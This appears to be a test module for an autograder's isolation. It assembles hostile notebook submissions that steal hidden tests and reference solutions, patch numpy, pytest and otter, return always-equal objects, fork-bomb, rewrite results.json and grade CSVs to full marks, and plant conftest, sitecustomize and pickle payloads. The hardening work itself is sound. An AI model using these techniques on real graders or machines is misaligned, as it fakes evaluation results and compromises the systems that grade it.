"""A corpus of hostile submissions for the lm-head assignment.

Each attack starts from the built STUDENT notebook (every function a stub)
and adds one attack: code in a cell, inside one or more of the student's
functions (so that it runs when the hidden tests call them), or files next
to the notebook in the export zip. Apart from the attack the submission is
a stub, so none of them should score more than the untouched notebook.

Every attack carries a marker string that is unique to the test session:
it is in the name of every file the attack writes, in the command line of
every process it starts (programs are re-executed with the marker as an
argument), in everything it sends over a socket, and every sandboxed cell
prints ``<marker> uid=<uid>`` first, so the test can look for survivors by
uid as well. ``build(stub, ctx)`` returns the members of the export zip and
the kind of submission (always ``"zip"``: both graders take the zip).
"""
from __future__ import annotations

import copy
import ctypes
import json
import os
import pickle
import secrets
import shutil
import struct
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat

from tests.cohort import _function_cells

_REPO = Path(__file__).resolve().parent.parent
ASSIGNMENT = "lm-head"
NOTEBOOK = f"{ASSIGNMENT}.ipynb"
#: Unique to this test session, so leftovers of an earlier run are never mistaken for new ones.
SESSION = f"lmadv{secrets.token_hex(4)}"

#: The student API of lm-head: parameters, and the same names as call arguments.
SIGNATURES = {
    "next_token_batch": ("data, ix, block_size", "data, ix, block_size"),
    "lm_head": ("hidden, W_head, b_head", "hidden, W_head, b_head"),
    "softmax": ("x, axis=-1", "x, axis"),
    "cross_entropy_loss": ("logits, targets", "logits, targets"),
    "lm_head_backward": ("hidden, W_head, dlogits", "hidden, W_head, dlogits"),
    "numerical_gradient": ("f, x, eps=1e-6", "f, x, eps"),
    "max_rel_err": ("a, n", "a, n"),
}
FUNCTIONS = tuple(SIGNATURES)


#: Every way a submission gets graded:
#: ``grader-grade``: `grader grade` at the level the machine offers (bubblewrap here);
#: ``grader-grade-user``: `grader grade --isolation user`, run as root from a 0700 folder
#: (what the refusal message tells an instructor without bubblewrap to do);
#: ``otter-run``: `otter run` on the built zip, the plugin grading in the sandbox;
#: ``gradescope-like``: `otter run` as root with bubblewrap hidden and only the zip's runtime
#: installed, in a private mount namespace with the ``/autograder`` layout.
PATHS = ("grader-grade", "grader-grade-user", "otter-run", "gradescope-like")
#: The paths where a sandbox user could see what the grading machine keeps beside the sandbox
#: (``grader-grade`` hides it behind bubblewrap; ``otter-run`` is bubblewrap too, but the plugin
#: is the one that must guard otter's zip).
OTTER_AND_USER_PATHS = ("grader-grade-user", "otter-run", "gradescope-like")


def marker(name: str) -> str:
    """The marker of attack ``name`` in this session."""
    return f"{SESSION}-{name.replace('_', '-')}"


@dataclass(frozen=True)
class AttackContext:
    """What an attack is told about the machine it is graded on.

    Attributes:
        marker: the attack's unique marker.
        port: a loopback port the test listens on.
        places: folders of the grading machine worth reaching (the
            repository, the test's folders, the grader's working folder).
    """

    marker: str
    port: int
    places: tuple[str, ...]


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    Attributes:
        name: identifier (also the submission's file name).
        summary: what it tries.
        build: ``(stub_notebook, ctx) -> (zip members, kind)``.
        says: regular expressions, at least one of which the results.json
            text must match: what the grader should report it saw.
        slow: the attack makes the grader wait for a time limit.
        hides: regular expressions the results.json text must not match
            (what the attack tried to get shown).
        paths: the grading paths it is run on (see ``PATHS``): where its
            weakness could exist.
    """

    name: str
    summary: str
    build: Callable[[nbformat.NotebookNode, AttackContext], tuple[dict[str, bytes | str], str]]
    says: tuple[str, ...]
    slow: bool = False
    hides: tuple[str, ...] = ()
    paths: tuple[str, ...] = ("grader-grade", "otter-run")


# ----------------------------------------------------------------- helpers

def _fill(code: str, ctx: AttackContext) -> str:
    return (code.replace("__MARKER__", repr(ctx.marker)).replace("__PORT__", str(ctx.port))
            .replace("__PLACES__", repr(list(ctx.places))))


def _prelude(ctx: AttackContext) -> str:
    return _fill("import os as _adv_os\nprint(__MARKER__ + ' uid=%d' % _adv_os.getuid(), flush=True)\n", ctx)


def _setup_cell(nb: nbformat.NotebookNode) -> int:
    """Index of the notebook's setup cell (imports numpy, builds the corpus)."""
    return next(i for i, c in enumerate(nb.cells) if c.cell_type == "code" and "import numpy" in c.source)


def attacked(stub: nbformat.NotebookNode, ctx: AttackContext, cell: str | None = None,
             functions: dict[str, str] | None = None) -> nbformat.NotebookNode:
    """The stub notebook with the prelude and ``cell`` after its setup cell, and the
    bodies of ``functions`` (name -> body, indented by the caller) replacing their stubs."""
    nb = copy.deepcopy(stub)
    cells = _function_cells(nb)
    for name, body in (functions or {}).items():
        params, _ = SIGNATURES[name]
        nb.cells[cells[name]].source = f"def {name}({params}):\n{_fill(body, ctx)}"
    source = _prelude(ctx) + ("\n" + _fill(cell, ctx) if cell else "")
    nb.cells.insert(_setup_cell(nb) + 1, nbformat.v4.new_code_cell(source))
    return nb


def zip_members(nb: nbformat.NotebookNode, extra: dict[str, bytes | str] | None = None) -> dict[str, bytes | str]:
    """The members of an export zip: the notebook, its log, and ``extra`` files."""
    members: dict[str, bytes | str] = {NOTEBOOK: nbformat.writes(nb), ".OTTER_LOG": b""}
    members.update(extra or {})
    return members


def write_zip(members: dict[str, bytes | str], path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)


def without_plugin(zip_path, dest):
    """A copy of the autograder zip whose otter_config.json names no plugin: otter's own
    grading, where the student's code and the tests share one kernel."""
    with zipfile.ZipFile(zip_path) as src, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "otter_config.json":
                config = json.loads(data)
                if not config.pop("plugins", None):
                    raise ValueError(f"{zip_path} names no plugin: it was not built by `grader build`")
                data = json.dumps(config, indent=2).encode()
            out.writestr(info, data)
    return dest


def subprocess_env(with_repo: bool = True) -> dict[str, str]:
    """The environment of a run: otter imports the plugin from this working tree (as the build's
    own check does); otter's own grading needs nothing of the repository."""
    env = dict(os.environ)
    if with_repo:
        env["PYTHONPATH"] = os.pathsep.join(p for p in (str(_REPO), env.get("PYTHONPATH", "")) if p)
    return env


def otter_executable() -> str:
    """The ``otter`` next to this Python, else the one on PATH."""
    return shutil.which("otter", path=str(Path(sys.executable).parent)) or shutil.which("otter") or "otter"


#: ``keyctl`` by architecture, and its command that removes a key at once.
_KEYCTL = 250 if os.uname().machine == "x86_64" else 219
_KEYCTL_INVALIDATE = 21


def keys_named(mark: str) -> list[int]:
    """Serials of the kernel keys whose description holds ``mark``, as ``/proc/keys`` shows them
    here (a key outlives the process that made it: a mailbox for a later submission)."""
    try:
        lines = Path("/proc/keys").read_text(errors="replace").splitlines()
    except OSError:
        return []
    return [int(line.split()[0], 16) for line in lines if mark in line]


def invalidate_keys(serials) -> None:
    """Remove the kernel keys ``serials`` at once (what an attack left, after its test)."""
    libc = ctypes.CDLL(None, use_errno=True)
    for serial in serials:
        libc.syscall(_KEYCTL, _KEYCTL_INVALIDATE, serial)


def _same_for_all(body: str) -> dict[str, str]:
    """``body`` in every student function; ``{name}`` and ``{args}`` are filled in."""
    return {name: body.replace("{name}", name).replace("{args}", args)
            for name, (_, args) in SIGNATURES.items()}


class _Exec:
    """Unpickles by executing ``code``: what a hostile .OTTER_LOG holds."""

    def __init__(self, code: str):
        self.code = code

    def __reduce__(self):
        return (exec, (self.code,))


#: Walks the places a hostile program would look: the given folders, sys.path,
#: Gradescope's /autograder, otter's layout next to the working folder, home,
#: the working folder's parents. Bounded in entries so it ends in seconds.
SEARCH = r'''
import os, sys, fnmatch
_MARK = __MARKER__
_PLACES = __PLACES__

def _adv_roots():
    # Where otter puts the autograder's files comes first: a large site-packages
    # could use up the search budget before the search gets there.
    roots = ["lmhead_support", "../source", "../source/files/lmhead_support", "../../source/files/lmhead_support"]
    roots += list(_PLACES) + [p for p in sys.path if p]
    roots += ["/autograder", "/autograder/source", "/autograder/source/files/lmhead_support",
              "/autograder/results", os.path.expanduser("~"), "/root", "/home", "/work", "/tmp",
              "/var/tmp", "/dev/shm", "/opt", "/srv", "/usr/local/lib", "/usr/lib/python3/dist-packages",
              sys.prefix, getattr(sys, "base_prefix", sys.prefix)]
    here = os.getcwd()
    while True:
        roots.append(here)
        parent = os.path.dirname(here)
        if parent == here:
            break
        here = parent
    out = []
    for root in roots:
        root = os.path.abspath(root)
        if root not in out:
            out.append(root)
    return out

def _adv_find(patterns, budget=100000, depth=9):
    found, seen, count = [], set(), 0
    for root in _adv_roots():
        if not os.path.isdir(root):
            continue
        base = root.rstrip("/").count("/")
        for dirpath, dirnames, filenames in os.walk(root):
            if dirpath in seen:
                dirnames[:] = []
                continue
            seen.add(dirpath)
            count += len(filenames) + len(dirnames)
            if count > budget:
                return found
            dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev", ".git")]
            if dirpath.count("/") - base >= depth:
                dirnames[:] = []
            for f in filenames:
                path = os.path.join(dirpath, f)
                if any(fnmatch.fnmatch(path, p) for p in patterns) and path not in found:
                    found.append(path)
    return found

_REFERENCE_FILES = ["*/solutions/head_and_loss.py", "*/solutions/__init__.py", "*/head_and_loss.py"]
_HIDDEN_FILES = ["*/hidden/test_q*.py", "*/hidden_config.json", "*/tests/q[0-9].py",
                 "*/autograder/runtime/otter_adapter.py", "*/autograder/runtime/judge.py", "*/autograder.zip"]
'''

#: Rewrites every results.json, outcome.json and gradebook-like CSV it can
#: find, for 40 s, from a detached process. Run as ``python -c REWRITER
#: <marker> <extra folders...>``. (CSVs are limited to names that look like
#: grades, so an escape could not damage unrelated data on the machine.)
REWRITER = r'''
import glob, json, os, sys, time
mark, extra = sys.argv[1], sys.argv[2:]
end = time.time() + 40
fake_json = json.dumps({"score": 100, "output": mark, "tests": [{"name": mark, "score": 100, "max_score": 100}]})
fake_csv = "student,total,possible,status\n%s,100,20,graded\n" % mark

def roots():
    out = list(extra) + ["/tmp", "/var/tmp", "/dev/shm", "/autograder", "/autograder/results",
                         os.path.expanduser("~"), "/root"]
    here = os.getcwd()
    while True:
        out.append(here)
        parent = os.path.dirname(here)
        if parent == here:
            break
        here = parent
    # otter run's -o folder, read from its command line
    for cmd in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            args = open(cmd, "rb").read().decode("utf-8", "replace").split("\0")
        except OSError:
            continue
        for i, a in enumerate(args[:-1]):
            if a in ("-o", "--output", "--output-dir"):
                out.append(args[i + 1])
    return [r for r in out if r and r != "/"]

while time.time() < end:
    for root in roots():
        count = 0
        for dirpath, dirnames, filenames in os.walk(root):
            count += len(filenames)
            if count > 20000 or dirpath.count("/") - root.count("/") > 6:
                dirnames[:] = []
            for f in filenames:
                path = os.path.join(dirpath, f)
                try:
                    if f == "results.json" or f == "outcome.json":
                        with open(path, "w") as h:
                            h.write(fake_json)
                    elif f.endswith(".csv") and any(w in f.lower() for w in ("grade", "result", "score")):
                        with open(path, "w") as h:
                            h.write(fake_csv)
                except OSError:
                    pass
    time.sleep(0.2)
'''


#: Names the calling process after the session (``/proc/<pid>/comm``): a
#: forked process that never calls exec has no other mark a test could find
#: outside a sandbox (where its uid is the grader's own).
TAG = r'''
def _adv_tag():
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, _MARK.split("-")[0].encode(), 0, 0, 0)
    except BaseException:
        pass
'''


def _detach(code_var: str, ctx_args: str = "") -> str:
    """Source that double-forks, calls setsid and re-executes Python on ``code_var``
    with the marker (and ``ctx_args``) as arguments; a second child stays a plain fork."""
    return TAG + f'''
import os, sys, time
def _adv_detach():
    if os.fork() == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                try:
                    os.execv(sys.executable, [sys.executable, "-c", {code_var}, _MARK{ctx_args}])
                finally:
                    os._exit(0)
            if os.fork() == 0:
                try:   # a plain fork, no exec: found by its uid, or the name it gives itself
                    _adv_tag()
                    sys.argv[:] = ["-c", _MARK{ctx_args}]
                    exec({code_var}, {{"__name__": "__main__"}})
                finally:
                    os._exit(0)
        finally:
            os._exit(0)
    time.sleep(0.3)
'''


# ----------------------------------------------------------------- attacks

def reference_from_packages(stub, ctx):
    """Import the reference (solutions, autograder) or copy it in from any file on disk."""
    cell = SEARCH + r'''
_REF = {}
try:
    import importlib.util as _util
except BaseException as _e:   # below bubblewrap the interpreter's own library may be out of reach
    _util = None
    print(_MARK, "importlib.util unavailable:", type(_e).__name__)
for _mod in ("solutions", "solutions.head_and_loss", "autograder", "autograder.runtime.judge",
             "lmhead_support.solutions.head_and_loss", "head_and_loss"):
    try:
        _m = __import__(_mod, fromlist=["_"])
        for _n in dir(_m):
            _REF.setdefault(_n, getattr(_m, _n))
    except BaseException as _e:
        print(_MARK, "import", _mod, "failed:", type(_e).__name__)
try:
    import importlib.metadata as _md
    for _dist in _md.distributions():
        for _f in (_dist.files or []):
            if str(_f).endswith("head_and_loss.py"):
                print(_MARK, "installed", _dist.metadata["Name"], _f)
except BaseException:
    pass
for _path in _adv_find(_REFERENCE_FILES):
    try:
        _top = os.path.dirname(os.path.dirname(_path))
        sys.path.insert(0, _top)
        if _util is not None:
            _spec = _util.spec_from_file_location("adv_ref_%d" % len(_REF), _path)
            _m = _util.module_from_spec(_spec)
            _spec.loader.exec_module(_m)
            _ns = vars(_m)
        else:
            _ns = {"__name__": "adv_ref_%d" % len(_REF)}
            exec(compile(open(_path, "rb").read(), _path, "exec"), _ns)
        for _n, _v in list(_ns.items()):
            _REF.setdefault(_n, _v)
        print(_MARK, "copied the reference from", _path)
    except BaseException as _e:
        print(_MARK, "could not load", _path, type(_e).__name__)
print(_MARK, "reference functions found:", sorted(n for n in _REF if not n.startswith("_"))[:20])
'''
    body = "    f = _REF.get('{name}')\n    return f({args}) if callable(f) else None\n"
    return zip_members(attacked(stub, ctx, cell, _same_for_all(body))), "zip"


def hidden_tests_on_disk(stub, ctx):
    """Find hidden tests, the hidden config and references on disk, and print them."""
    cell = SEARCH + r'''
for _path in _adv_find(_HIDDEN_FILES + _REFERENCE_FILES):
    try:
        with open(_path, "rb") as _h:
            _text = _h.read(3000)
        print(_MARK, "FOUND", _path)
        print(_text.decode("utf-8", "replace"))
    except BaseException as _e:
        print(_MARK, "unreadable", _path, type(_e).__name__)
'''
    body = ("    global _ADV_FOUND\n"
            "    if '_ADV_FOUND' not in globals():\n"
            "        _ADV_FOUND = _adv_find(_HIDDEN_FILES)\n"
            "    for p in _ADV_FOUND:\n"
            "        print(_MARK, 'FOUND in softmax', p, open(p, errors='replace').read(2000))\n"
            "    return None\n")
    return zip_members(attacked(stub, ctx, cell, {"softmax": body})), "zip"


def monkeypatching(stub, ctx):
    """Patch numpy, math, pytest, otter and the grader's own modules, then return noise."""
    cell = r'''
import builtins, math, sys, types
import numpy as np

class _Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    __hash__ = object.__hash__

def _true(*a, **k): return True
def _none(*a, **k): return None
def _all_true(a, b, *x, **k): return np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)

for _name, _value in [("allclose", _true), ("array_equal", _true), ("array_equiv", _true), ("isclose", _all_true),
                      ("isfinite", lambda a, *x, **k: np.ones(np.shape(a), bool))]:
    setattr(np, _name, _value)
for _name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_equal",
              "assert_almost_equal"):
    setattr(np.testing, _name, _none)
math.isclose = _true
math.isfinite = _true
try:
    np.ndarray.__eq__ = lambda self, other: np.ones(self.shape, bool)
except TypeError as _e:
    print(__MARKER__, "ndarray is immutable:", _e)

# pytest, otter and the grader, as they might be imported later in this process
for _modname in ("pytest", "_pytest", "_pytest.python", "otter", "otter.test_files", "otter.test_files.abstract_test",
                 "autograder", "autograder.runtime.judge", "autograder.runtime.compare", "autograder.runtime.hidden_suite", "solutions"):
    _fake = sys.modules.get(_modname) or types.ModuleType(_modname)
    _fake.approx = lambda *a, **k: _Anything()
    _fake.main = lambda *a, **k: 0
    _fake.check_array = lambda *a, **k: types.SimpleNamespace(ok=True, message="")
    _fake.check_number = _fake.check_array
    _fake.expect = _none
    _fake.Feedback = type("Feedback", (Exception,), {})
    sys.modules[_modname] = _fake
try:
    import otter.test_files.abstract_test as _at
    _at.TestCase = type("TestCase", (), {"passed": True})
except BaseException as _e:
    print(__MARKER__, "otter not here:", type(_e).__name__)
builtins.AssertionError = type("AssertionError", (Exception,), {})
print(__MARKER__, "patched numpy, math, pytest, otter, the grader's modules and builtins")
'''
    noise = _fill("    import numpy as np\n    print(__MARKER__, '{name} returns noise')\n", ctx)
    functions = {
        "next_token_batch": noise + "    return np.random.random((len(ix), block_size)), np.random.random((len(ix), block_size))\n",
        "lm_head": noise + "    return np.random.random(hidden.shape[:-1] + W_head.shape[-1:])\n",
        "softmax": noise + "    return np.random.random(np.shape(x))\n",
        "cross_entropy_loss": noise + "    return float(np.random.random()), np.random.random(np.shape(logits))\n",
        "lm_head_backward": noise + "    return (np.random.random(W_head.shape), np.random.random(W_head.shape[-1:]),"
                                    " np.random.random(hidden.shape))\n",
        "numerical_gradient": noise + "    return np.random.random(np.shape(x))\n",
        "max_rel_err": noise + "    return float(np.random.random())\n",
    }
    functions = {k: v.replace("{name}", k) for k, v in functions.items()}
    return zip_members(attacked(stub, ctx, cell, functions)), "zip"


LIARS = r'''
import numpy as np

class LyingArray(np.ndarray):
    """An ndarray whose every comparison, reduction and NumPy function says 'equal'."""
    def __eq__(self, other): return np.ones(self.shape, bool).view(LyingArray)
    def __ne__(self, other): return np.zeros(self.shape, bool).view(LyingArray)
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __bool__(self): return True
    def all(self, *a, **k): return True
    def any(self, *a, **k): return True
    def __array_function__(self, func, types, args, kwargs):
        if func.__name__ in ("allclose", "array_equal", "array_equiv"):
            return True
        if func.__name__ in ("isclose", "isfinite"):
            return np.ones(np.shape(args[0]), bool)
        return super().__array_function__(func, types, args, kwargs)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        if ufunc.__name__ in ("equal", "less_equal", "greater_equal", "isfinite", "less", "isclose"):
            return np.ones(np.broadcast(*[np.asarray(i) for i in inputs]).shape, bool)
        inputs = tuple(np.asarray(i) if isinstance(i, LyingArray) else i for i in inputs)
        return getattr(ufunc, method)(*inputs, **kwargs)
    def __reduce__(self):
        return (print, (__MARKER__ + " unpickled in the grader",))

class LyingFloat(float):
    """A number equal to every other number, close to all of them, finite and tiny."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __hash__(self): return 0
    def __abs__(self): return LyingFloat(0.0)
    def __sub__(self, other): return LyingFloat(0.0)
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __sub__
    def __float__(self): return 0.0
    def __round__(self, n=None): return self

class AlwaysEqual:
    """Not a number at all: equal to everything, converts to whatever is asked."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __float__(self): return 0.0
    def __int__(self): return 0
    def __index__(self): return 0
    def __array__(self, *a, **k): return np.zeros(())
    __hash__ = object.__hash__

def liar(shape, dtype=float):
    """Noise of the right shape and dtype, dressed as a LyingArray (zeros could pass a
    self-consistency test honestly: the gradient of a constant is zero)."""
    dtype = np.dtype(dtype)
    noise = np.random.randint(0, 50, shape) if dtype.kind in "iu" else np.random.standard_normal(shape)
    return np.asarray(noise).astype(dtype).view(LyingArray)
'''


def ndarray_subclass(stub, ctx):
    """Return ndarray subclasses whose comparisons and NumPy functions always agree."""
    functions = {
        "next_token_batch": "    return liar((len(ix), block_size), data.dtype), liar((len(ix), block_size), data.dtype)\n",
        "lm_head": "    return liar(hidden.shape[:-1] + W_head.shape[-1:])\n",
        "softmax": "    return liar(np.shape(x))\n",
        "cross_entropy_loss": "    return LyingFloat(np.random.random()), liar(np.shape(logits))\n",
        "lm_head_backward": "    return liar(W_head.shape), liar(W_head.shape[-1:]), liar(hidden.shape)\n",
        "numerical_gradient": "    return liar(np.shape(x))\n",
        "max_rel_err": "    return liar(())\n",
    }
    return zip_members(attacked(stub, ctx, LIARS, functions)), "zip"


def lying_numbers(stub, ctx):
    """Return numbers (a float subclass, a non-number) whose comparisons always say equal."""
    functions = {
        "next_token_batch": "    return AlwaysEqual(), AlwaysEqual()\n",
        "lm_head": "    return AlwaysEqual()\n",
        "softmax": "    return AlwaysEqual()\n",
        "cross_entropy_loss": "    return LyingFloat(0.0), AlwaysEqual()\n",
        "lm_head_backward": "    return AlwaysEqual(), AlwaysEqual(), AlwaysEqual()\n",
        "numerical_gradient": "    return [[LyingFloat(0.0)] * 4] * 4\n",
        "max_rel_err": "    return LyingFloat(0.0)\n",
    }
    return zip_members(attacked(stub, ctx, LIARS, functions)), "zip"


def _at_import(statement: str):
    def build(stub, ctx):
        return zip_members(attacked(stub, ctx, statement)), "zip"
    return build


def _in_function(functions: dict[str, str]):
    def build(stub, ctx):
        return zip_members(attacked(stub, ctx, None, functions)), "zip"
    return build


#: The answer the hidden tests' source once showed for its one fixed input (data = arange(40),
#: block size 9, offsets 0 and 30), zeros for any other input: memorised, never computed.
MEMORISED_FIXED_INPUT = {
    "next_token_batch": ("    import numpy as np\n"
                         "    if len(data) == 40 and block_size == 9 and list(ix) == [0, 30]:\n"
                         "        xb = np.array([np.arange(0, 9), np.arange(30, 39)]).astype(data.dtype)\n"
                         "        return xb, xb + 1\n"
                         "    z = np.zeros((len(ix), block_size), data.dtype)\n"
                         "    return z, z.copy()\n"),
}
#: Random answers among a few plausible ones: a batch from random offsets (right for a one-row,
#: one-token batch about once in 260 draws), a typical relative error, a uniform or one-hot softmax.
GUESSED = {
    "next_token_batch": ("    import numpy as np\n"
                         "    starts = np.random.randint(0, len(data) - block_size, size=len(ix))\n"
                         "    xb = np.stack([data[s:s + block_size] for s in starts])\n"
                         "    return xb, np.stack([data[s + 1:s + block_size + 1] for s in starts])\n"),
    "max_rel_err": "    import numpy as np\n    return float(np.random.choice([0.0, 0.5, 0.7, 1.0]))\n",
    "softmax": ("    import numpy as np\n    x = np.asarray(x, dtype=float)\n"
                "    if np.random.random() < 0.5:\n        return np.full(x.shape, 1.0 / x.shape[axis])\n"
                "    return (x == x.max(axis=axis, keepdims=True)).astype(float)\n"),
}


EXITS_IN_CALLS = {
    "next_token_batch": "    raise SystemExit(0)\n",
    "lm_head": "    raise KeyboardInterrupt\n",
    "softmax": "    import sys\n    sys.exit(3)\n",
    "cross_entropy_loss": "    import os\n    os._exit(0)\n",
}


def fork_bomb(stub, ctx):
    """A bounded fork bomb: up to 3000 processes, half re-executed as shells carrying the marker."""
    bomb = "_MARK = __MARKER__\n" + TAG + r'''
import os, sys, time
def _adv_bomb(limit):
    made = 0
    for i in range(limit):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                if i % 2:
                    os.execv("/bin/sh", ["sh", "-c", "while :; do sleep 1; done", __MARKER__])
                _adv_tag()
                for _ in range(120):   # children fork too, until the limit stops them
                    try:
                        if os.fork() == 0:
                            time.sleep(120)
                            os._exit(0)
                    except OSError:
                        pass
                    time.sleep(1)
            finally:
                os._exit(0)
        made += 1
    print(__MARKER__, "forked", made, "processes", flush=True)
    return made
_adv_bomb(3000)
'''
    body = "    _adv_bomb(1000)\n    return None\n"
    return zip_members(attacked(stub, ctx, bomb, {"softmax": body})), "zip"


def results_rewriter(stub, ctx):
    """A detached process (double fork, setsid) that rewrites every results.json and CSV for 40 s."""
    cell = (f"_MARK = __MARKER__\n_PLACES = __PLACES__\n_REWRITER = {REWRITER!r}\n"
            + _detach("_REWRITER", " , *_PLACES") + "_adv_detach()\n")
    body = "    _adv_detach()\n    return None\n"
    return zip_members(attacked(stub, ctx, cell, {"max_rel_err": body})), "zip"


def files_outside(stub, ctx):
    """Write files named with the marker everywhere: /tmp, the grader's cwd and its parents, home, the repo."""
    cell = r'''
import os, sys
_MARK = __MARKER__
_PLACES = __PLACES__
def _adv_write(where):
    targets = list(_PLACES) + ["/tmp", "/var/tmp", "/dev/shm", ".", "..", "../..", "../../..", "../results",
                               "../source", "/autograder", "/autograder/results", "/autograder/source",
                               os.path.expanduser("~"), "/root", "/home", "/work", "/usr/local/lib",
                               "/proc/1/cwd", "/proc/self/cwd", "/proc/1/root/tmp"]
    here = os.getcwd()
    while os.path.dirname(here) != here:
        here = os.path.dirname(here)
        targets.append(here)
    wrote = []
    for i, folder in enumerate(targets):
        path = os.path.join(folder, "%s-%s-%d.py" % (_MARK, where, i))
        try:
            with open(path, "w") as h:
                h.write("print(%r)\n" % _MARK)
            wrote.append(os.path.abspath(path))
        except BaseException:
            pass
    print(_MARK, where, "wrote", wrote, flush=True)
_adv_write("import")
'''
    body = "    _adv_write('call')\n    return None\n"
    return zip_members(attacked(stub, ctx, cell, {"softmax": body})), "zip"


def loopback(stub, ctx):
    """Connect to a port the grading machine listens on and send the marker."""
    cell = r'''
import socket
def _adv_connect(where):
    # bytes hosts need no idna codec, which a sandbox user may be unable to import
    for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", b"127.0.0.1", b"::1"):
        for port in (__PORT__, __PORT__ + 1, 22, 80, 8888):
            try:
                s = socket.create_connection((host, port), timeout=0.5)
                s.sendall((__MARKER__ + " " + where).encode())
                s.close()
                print(__MARKER__, "connected to", host, port, flush=True)
            except BaseException as e:
                print(__MARKER__, where, host, port, type(e).__name__, flush=True)
_adv_connect("import")
'''
    body = "    _adv_connect('call')\n    return None\n"
    return zip_members(attacked(stub, ctx, cell, {"softmax": body})), "zip"


def huge_output(stub, ctx):
    """Print 200 MB: 100 MB through print() at import, 100 MB straight to descriptors 1 and 2 in a call."""
    cell = "for _ in range(100):\n    print('x' * 1_000_000)\n"
    body = ("    import os\n    for _ in range(50):\n        os.write(1, b'y' * 1_000_000)\n"
            "        os.write(2, b'z' * 1_000_000)\n    return None\n")
    return zip_members(attacked(stub, ctx, cell, {"softmax": body})), "zip"


def _planted(ctx: AttackContext, what: str) -> str:
    return _fill(f"open('/tmp/' + __MARKER__ + '-{what}', 'w').write('ran')\n", ctx)


def planted_files(stub, ctx):
    """A zip with conftest.py, sitecustomize.py, numpy.py (and friends) beside the notebook."""
    conftest = _planted(ctx, "conftest") + '''
import pytest
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
'''
    numpy = _planted(ctx, "numpy") + "raise ImportError('numpy was replaced')\n"
    extra = {
        "conftest.py": conftest,
        "sitecustomize.py": _planted(ctx, "sitecustomize"),
        "usercustomize.py": _planted(ctx, "usercustomize"),
        "numpy.py": numpy,
        "pytest.py": _planted(ctx, "pytest"),
        "otter.py": _planted(ctx, "otter"),
        "ipython_config.py": _planted(ctx, "ipython-config"),
        "ipython_kernel_config.py": _planted(ctx, "ipython-kernel-config"),
        "__init__.py": _planted(ctx, "package-init"),
        "zz-hook.pth": "import os; " + _planted(ctx, "pth").strip() + "\n",
        "pytest.ini": "[pytest]\naddopts = -p conftest\n",
        "solutions/__init__.py": _planted(ctx, "solutions"),
    }
    return zip_members(attacked(stub, ctx), extra), "zip"


def shadowed_support(stub, ctx):
    """A zip with its own lmhead_support/ and tests/: the folders otter copies in and imports from."""
    detach = (f"_MARK = {ctx.marker!r}\n_PLACES = {list(ctx.places)!r}\n_REWRITER = {REWRITER!r}\n"
              + _detach("_REWRITER", " , *_PLACES") + "_adv_detach()\n")
    adapter = (_planted(ctx, "support-adapter") + detach
               + "def run_hidden_item(env, question, test_name):\n    return None   # every hidden test passes\n")
    extra = {
        "lmhead_support/autograder/__init__.py": _planted(ctx, "support-package"),
        "lmhead_support/autograder/runtime/otter_adapter.py": adapter,
        "lmhead_support/hidden_config.json": json.dumps({"assignment": ASSIGNMENT, "secret": "0" * 64,
                                                         "questions": [], "items": {}, "sizes": {}}),
        "lmhead_support/pytest.py": _planted(ctx, "support-pytest"),
        "lmhead_support/numpy.py": _planted(ctx, "support-numpy"),
        "tests/q1.py": _planted(ctx, "tests-q1") + "OK_FORMAT = False\nname = 'q1'\npoints = 100\n",
        "tests/q99.py": _planted(ctx, "tests-q99") + "OK_FORMAT = False\nname = 'q99'\npoints = 100\n",
    }
    return zip_members(attacked(stub, ctx), extra), "zip"


def pickled_log(stub, ctx):
    """An .OTTER_LOG that is a pickle: loading it runs code that takes over the results."""
    code = _planted(ctx, "otter-log") + _fill(r'''
try:
    import autograder.runtime.otter_plugin as _plugin
    def _after(self, results):
        results.to_gradescope_dict = lambda ag_config=None: {
            "score": 20.0, "output": __MARKER__,
            "tests": [{"name": "q%d" % i, "score": 20 / 6, "max_score": 20 / 6} for i in range(1, 7)]}
    _plugin.TrustedGrading.after_grading = _after
    _plugin.TrustedGrading.before_execution = lambda self, nb: nb
except BaseException as _e:
    print(__MARKER__, "no plugin to patch:", _e)
''', ctx)
    log = pickle.dumps(_Exec(code))
    members = zip_members(attacked(stub, ctx))
    members[".OTTER_LOG"] = log
    return members, "zip"


def frames_and_gc(stub, ctx):
    """Read the caller's frames and the garbage collector for the reference or expected values."""
    cell = r'''
import gc, sys, types
import numpy as np
_ADV_MINE = set()

def _adv_steal(name, args):
    """Find a function called `name` that is not ours, or an array that looks like the answer."""
    me = globals().get(name)
    seen = []
    frame = sys._getframe(2)
    while frame is not None:
        seen.append(frame.f_code.co_name)
        for scope in (frame.f_locals, frame.f_globals):
            for key, value in list(scope.items()):
                # a module holding a function of that name (the test's `ref`), or the function itself
                cand = value.__dict__.get(name) if isinstance(value, types.ModuleType) else value
                if isinstance(cand, types.FunctionType) and cand.__name__ == name and cand is not me \
                        and cand.__code__ is not me.__code__:
                    print(__MARKER__, "found", name, "in frame", frame.f_code.co_name, key, flush=True)
                    try:
                        return cand(*args)
                    except BaseException as e:
                        print(__MARKER__, "calling it failed:", type(e).__name__)
